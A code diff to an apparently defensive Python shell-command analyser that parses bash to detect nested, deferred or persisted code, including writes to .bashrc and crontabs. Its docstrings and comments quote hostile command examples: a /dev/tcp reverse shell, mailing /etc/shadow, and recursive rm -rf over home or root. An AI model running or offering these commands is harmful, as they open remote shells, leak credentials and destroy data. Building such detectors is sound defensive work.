@@ -8,7 +8,10 @@ normalised for matching: words with their quotes, backslashes and ``$'...'`` esc
 ``/b?n`` is ``/bin``). Code handed to another program is analysed too, recursively: ``bash -c``,
 ``eval``, ``ssh host CMD``, ``watch``, ``su -c``, ``xargs``, ``find -exec``, here-documents and
 here-strings fed to a shell, and literal text (``echo``/``printf``, through ``base64 -d``,
-``xxd -r -p`` or ``rev``) piped into a shell or ``xargs``. Nothing here runs anything.
+``xxd -r -p`` or ``rev``) piped into a shell or ``xargs``, or written where a shell runs it
+later (``>> ~/.bashrc``, ``| crontab -``, ``| tee /etc/cron.d/x``). A ``for`` loop's variable reads
+as the words it ranges over, and each command keeps its own redirections. Nothing here runs
+anything.
 
 tree-sitter is imported on first use, so importing this module costs nothing on the CLI's
 ``--help`` path.
@@ -41,6 +44,13 @@ SHELLS = frozenset(
 """Programs that run their ``-c`` argument or their standard input as shell code."""
 
 _SOURCE = frozenset({"source", ".", "eval"})
+
+SETUP_PRINTERS = frozenset(
+    "ssh-agent gpg-agent keychain pyenv rbenv nodenv goenv jenv direnv brew conda mamba "  # noqa: SIM905
+    "starship zoxide fnm opam mise rtx dircolors thefuck luarocks rustup".split()
+)
+"""Tools whose documented output is shell setup code (``eval "$(pyenv init -)"``): running
+that output is as trusted as running the tool, so it is not a run-time command name."""
 
 # Wrappers: the options that take a value, and how many positional words precede the command.
 _WRAPPERS: dict[str, tuple[frozenset[str], int]] = {
@@ -88,6 +98,9 @@ _WRAPPERS: dict[str, tuple[frozenset[str], int]] = {
     "strace": (frozenset({"-e", "-o", "-p", "-s", "-u"}), 0),
     "ltrace": (frozenset({"-e", "-o", "-p", "-s", "-u"}), 0),
 }
+WRAPPERS = frozenset(_WRAPPERS)
+"""Commands that run another command (``sudo``, ``env``, ``nice``...): peeled off in ``argv``."""
+
 _SSH_VALUE_OPTIONS = frozenset(
     [
         "-b",
@@ -168,6 +181,9 @@ _BRACE_COMMAND = re.compile(r"(?:^|(?<=[;&|(`\n]))\s*\{((?:[^{},\s]+,)+[^{},\s]+
 _ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
 _BRACE_WORD = re.compile(r"^(.*?)\{([^{}]*,[^{}]*)\}(.*)$", re.DOTALL)
 _POSITIONAL = frozenset("@*#0123456789")
+_DQ_ESCAPE = re.compile(r"\\([\\$`\"\n])")
+_SLASHES = re.compile(r"/{2,}")
+_BACKSLASH = re.compile(r"\\(.)", re.DOTALL)
 _UNSAFE_IN_TEXT = str.maketrans({c: "_" for c in "<>|;&\n"})
 
 
@@ -180,22 +196,29 @@ class SimpleCommand:
         wrappers: Wrapper commands peeled off in front of it (``("sudo", "env")``).
         depth: 0 on the line itself; more inside code handed to another program.
         dynamic: True when the command's name is only known at run time (``$CMD``, ``$(...)``).
+        redirects: Its own redirections (``bash -i >& /dev/tcp/h/1``: the ``/dev/tcp`` one).
     """
 
     argv: tuple[str, ...]
     wrappers: tuple[str, ...] = ()
     depth: int = 0
     dynamic: bool = False
+    redirects: tuple[Redirect, ...] = ()
 
-    @property
+    @functools.cached_property
     def text(self) -> str:
         """The words joined for pattern matching (shell punctuation inside a word neutralised)."""
         return " ".join(_text_word(w) for w in self.argv)
 
-    @property
+    @functools.cached_property
     def full_text(self) -> str:
         """Like ``text`` with the peeled wrappers in front (``sudo env rm ...``)."""
         return " ".join((*self.wrappers, self.text)) if self.wrappers else self.text
+
+    @functools.cached_property
+    def io_text(self) -> str:
+        """Like ``text`` with its own redirections after it (``mail root < /etc/shadow``)."""
+        return " ".join((self.text, *(r.text for r in self.redirects)))
 
 
 @dataclass(frozen=True)
@@ -222,12 +245,16 @@ class Analysis:
             the implied ones: a substitution handed to a shell reads as ``inner | sh``.
         problems: Why parts could not be vouched for: ``syntax`` (not valid bash) or ``depth``
             (code nested too deeply or too often to follow).
+        sources: Every piece of shell code read, as written: the line itself, then the code it
+            hands to a shell (``bash -c``, ``eval``, decoded base64...), for rules that read
+            shapes rather than commands (a loop that keeps forking).
     """
 
     commands: tuple[SimpleCommand, ...]
     redirects: tuple[Redirect, ...]
     pipelines: tuple[str, ...]
     problems: tuple[str, ...]
+    sources: tuple[str, ...] = ()
 
 
 def analyse(command: str) -> Analysis:
@@ -251,6 +278,7 @@ def analyse(command: str) -> Analysis:
         tuple(walker.redirects),
         tuple(dict.fromkeys(walker.pipelines)),
         tuple(dict.fromkeys(walker.problems)),
+        tuple(dict.fromkeys(walker.sources)),
     )
 
 
@@ -288,6 +316,7 @@ class _Walker:
     redirects: list[Redirect] = field(default_factory=list)
     pipelines: list[str] = field(default_factory=list)
     problems: list[str] = field(default_factory=list)
+    sources: list[str] = field(default_factory=list)
     variables: dict[str, str] = field(default_factory=dict)
     nested: int = 0
     cwd: str = ""
@@ -300,6 +329,7 @@ class _Walker:
             return None
         if depth:
             self.nested += 1
+        self.sources.append(text)
         tree = _parser().parse(_parsable(text))
         if tree.root_node.has_error:
             self.problems.append("syntax")
@@ -329,6 +359,8 @@ class _Walker:
         if kind in ("command_substitution", "process_substitution"):
             self.render(node, depth)
             return None
+        if kind == "for_statement":
+            return self.for_loop(node, depth)
         if kind in ("heredoc_body", "comment"):
             return None
         out: str | None = None
@@ -337,6 +369,19 @@ class _Walker:
         return out
 
     # -- statements ---------------------------------------------------------------------
+    def for_loop(self, node: Node, depth: int) -> str | None:
+        """``for f in ~/*; do rm -rf "$f"; done``: ``$f`` reads as the words it ranges over."""
+        variable = node.child_by_field_name("variable")
+        values = [
+            w
+            for v in node.children_by_field_name("value")
+            for w in expand_braces(self.render(v, depth))
+        ]
+        if variable is not None and values:
+            self.variables[_node_text(variable)] = " ".join(values)
+        body = node.child_by_field_name("body")
+        return self.walk(body, depth) if body is not None else None
+
     def pipeline(self, stages: list[Node], depth: int, stdin: str | None) -> str | None:
         texts: list[str] = []
         full: list[str] = []
@@ -356,6 +401,7 @@ class _Walker:
         body = node.child_by_field_name("body")
         rest: list[Node] = []
         extra: list[str] = []
+        own: list[Redirect] = []
         for child in node.named_children:
             if child == body:
                 continue
@@ -364,13 +410,15 @@ class _Walker:
                 stdin = data if data is not None else stdin
                 rest.extend(tail)
             elif child.type == "file_redirect":
-                extra.extend(self.file_redirect(child, depth))
+                redirect, words = self.file_redirect(child, depth)
+                own.append(redirect)
+                extra.extend(words)
         if body is None:
             return None
         if rest:  # `cat <<EOF | sh`: tree-sitter puts the rest of the pipeline in the heredoc
             return self.pipeline([body, *rest], depth, stdin)
         if body.type == "command":
-            return self.command(body, depth, stdin, tuple(extra))
+            return self.command(body, depth, stdin, tuple(extra), tuple(own))
         return self.walk(body, depth, stdin)
 
     def input_redirect(self, node: Node, depth: int) -> tuple[str | None, list[Node]]:
@@ -389,8 +437,8 @@ class _Walker:
                 tail.append(child)
         return data, tail
 
-    def file_redirect(self, node: Node, depth: int) -> list[str]:
-        """Record a redirection; return the words after its target (arguments, for bash)."""
+    def file_redirect(self, node: Node, depth: int) -> tuple[Redirect, list[str]]:
+        """Record a redirection; return it and the words after its target (arguments)."""
         operator = ""
         words: list[str] = []
         for child in node.children:
@@ -398,8 +446,9 @@ class _Walker:
                 operator += _node_text(child)
             elif child.type != "file_descriptor":
                 words.append(self.render(child, depth))
-        self.redirects.append(Redirect(operator or ">", resolve_target(words[0]) if words else ""))
-        return words[1:]
+        redirect = Redirect(operator or ">", resolve_target(words[0]) if words else "")
+        self.redirects.append(redirect)
+        return redirect, words[1:]
 
     def assign(self, node: Node, depth: int) -> None:
         name = node.child_by_field_name("name")
@@ -409,9 +458,15 @@ class _Walker:
             self.variables[_node_text(name)] = rendered
 
     def command(
-        self, node: Node, depth: int, stdin: str | None, extra: tuple[str, ...]
+        self,
+        node: Node,
+        depth: int,
+        stdin: str | None,
+        extra: tuple[str, ...],
+        redirects: tuple[Redirect, ...] = (),
     ) -> str | None:
         words: list[str] = []
+        own = list(redirects)
         dynamic = False
         before = len(self.commands)
         for child in node.named_children:
@@ -422,21 +477,30 @@ class _Walker:
                 data, _ = self.input_redirect(child, depth)
                 stdin = data if data is not None else stdin
             elif kind == "file_redirect":
-                words.extend(self.file_redirect(child, depth))
+                redirect, after = self.file_redirect(child, depth)
+                own.append(redirect)
+                words.extend(after)
             elif kind == "command_name":
                 inner = child.named_children[0] if child.named_children else child
+                start = len(self.commands)
                 name = self.render(inner, depth)
                 if re.match(r"\$\s", name):  # `$ ls`, a shell prompt pasted in: runs `$`
                     words.append("$")
                     name = name[1:].strip()
                 dynamic = inner.type in ("simple_expansion", "expansion", "command_substitution")
                 dynamic = dynamic and ((len(name) > 1 and name.startswith("$")) or name == "")
+                # `eval "$(ssh-agent -s)"`: the output of a shell-setup tool is its own code.
+                ran = self.commands[start:]
+                if dynamic and len(ran) == 1 and ran[0].argv[0] in SETUP_PRINTERS:
+                    dynamic = False
                 words.append(name)
             else:
                 words.append(self.render(child, depth))
         substituted = " | ".join(c.text for c in self.commands[before:])
         argv = [w for word in (*words, *extra) for w in expand_braces(word)]
-        return self.argv(argv, depth, stdin, dynamic=dynamic, substituted=substituted)
+        return self.argv(
+            argv, depth, stdin, dynamic=dynamic, substituted=substituted, redirects=tuple(own)
+        )
 
     # -- argv ---------------------------------------------------------------------------
     def argv(
@@ -447,6 +511,7 @@ class _Walker:
         *,
         dynamic: bool = False,
         substituted: str = "",
+        redirects: tuple[Redirect, ...] = (),
     ) -> str | None:
         """Record one simple command (after peeling wrappers) and follow the code it runs."""
         wrappers, argv, codes = peel(words)
@@ -459,7 +524,7 @@ class _Walker:
             self.cwd = argv[1] if len(argv) > 1 and argv[1].startswith(("/", "~")) else ""
         elif self.cwd:  # `cd / && rm -rf *` deletes /*
             argv = [argv[0], *(_in_dir(self.cwd, a) for a in argv[1:])]
-        self.commands.append(SimpleCommand(tuple(argv), tuple(wrappers), depth, dynamic))
+        self.commands.append(SimpleCommand(tuple(argv), tuple(wrappers), depth, dynamic, redirects))
         name, args = argv[0], argv[1:]
         for code in nested_code(name, args):
             self.code(code, depth + 1)
@@ -473,6 +538,27 @@ class _Walker:
         if stdin is not None and name == "xargs":
             run = nested_argv(name, args)
             self.argv([*(run[0] if run else ["echo"]), *stdin.split()], depth + 1, None)
+        output = literal_output(name, args, stdin)
+        # Code written where a shell runs it later (a startup file, a crontab) is code too.
+        sinks = [r.target for r in redirects if ">" in r.operator] if output is not None else []
+        if stdin is not None and name == "tee":
+            output, sinks = stdin, [a for a in args if not a.startswith("-")]
+        if stdin is not None and name == "crontab" and all(a == "-" for a in args):
+            output, sinks = stdin, ["crontab"]
+        for sink in sinks:
+            skip = _deferred_skip(sink)
+            if output is not None and skip is not None:
+                for line in output.split("\n"):
+                    code = _CRON_TIME.sub("", line, count=1) if skip else line
+                    fields = code.split(None, skip - 5) if skip > 5 else [code]
+                    # A cron line without a schedule, or a line only known at run time, is
+                    # not read.
+                    if skip:
+                        readable = code != line and bool(code.strip())
+                    else:
+                        readable = bool(line.strip()) and not line.lstrip().startswith("$")
+                    if readable:
+                        self.code(fields[-1], depth + 1)
         return literal_output(name, args, stdin)
 
     # -- words --------------------------------------------------------------------------
@@ -486,7 +572,7 @@ class _Walker:
         if kind == "ansi_c_string":
             return _ansi_c(_node_text(node)[2:-1])
         if kind == "string_content":
-            return re.sub(r"\\([\\$`\"\n])", r"\1", _node_text(node))
+            return _DQ_ESCAPE.sub(r"\1", _node_text(node))
         if kind in ("string", "translated_string"):
             return "".join(self.render(c, depth) for c in node.named_children)
         if kind == "concatenation":
@@ -569,8 +655,35 @@ def peel(words: list[str]) -> tuple[list[str], list[str], list[str]]:
             while i < len(words) and _ASSIGNMENT.match(words[i]):
                 i += 1
         i += positional
-    # `sudo -s` / `sudo -i` with no command runs a shell (which may read code on stdin).
+    # `sudo -s` / `sudo -i` with no command runs a shell (which may read code on stdin);
+    # `env` with no command prints the environment.
+    if wrappers[-1:] == ["env"] and not codes:
+        return wrappers[:-1], ["env"], codes
     return wrappers, (["sh"] if wrappers[-1:] in (["sudo"], ["doas"]) else []), codes
+
+
+_STARTUP_FILE = re.compile(
+    r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|bash_logout|profile|zshrc|zprofile|zshenv|zlogin"
+    r"|kshrc|mkshrc)$|^/etc/(?:profile|bash\.bashrc|zsh/\S+|profile\.d/\S+|rc\.local)$"
+)
+_USER_CRONTAB = re.compile(r"^(?:crontab|/var/spool/cron/(?:crontabs/)?[^/]+)$")
+_SYSTEM_CRONTAB = re.compile(r"^/etc/(?:crontab|cron\.d/\S+)$")
+_CRON_TIME = re.compile(r"^\s*(?:@\w+|(?:\S+\s+){5})")
+
+
+def _deferred_skip(path: str) -> int | None:
+    """Leading words to drop from each line written to ``path`` before reading it as code.
+
+    None: not a file a shell runs later; 0: a startup file (the line is code); 5: a user's
+    crontab (the schedule); 6: a system crontab (the schedule and the user).
+    """
+    if _STARTUP_FILE.search(path):
+        return 0
+    if _USER_CRONTAB.match(path):
+        return 5
+    if _SYSTEM_CRONTAB.match(path):
+        return 6
+    return None
 
 
 def utility_name(word: str) -> str:
@@ -730,7 +843,7 @@ def resolve_target(word: str) -> str:
         if not re.fullmatch(r"[A-Za-z_][A-Za-z0-9_.-]*", user):
             return word
         word = ("/root" if user == "root" else f"/home/{user}") + (f"/{rest}" if rest else "")
-    collapsed = re.sub(r"/{2,}", "/", word)
+    collapsed = _SLASHES.sub("/", word)
     home = collapsed.startswith("~")
     normal = posixpath.normpath(_HOME_STAND_IN + collapsed[1:] if home else collapsed)
     if home and normal.startswith(_HOME_STAND_IN):
@@ -758,7 +871,7 @@ def _in_dir(cwd: str, word: str) -> str:
 
 def _unescape(text: str) -> str:
     text = text.replace("\\\n", "")
-    return re.sub(r"\\(.)", r"\1", text, flags=re.DOTALL)
+    return _BACKSLASH.sub(r"\1", text)
 
 
 def _ansi_c(text: str) -> str:
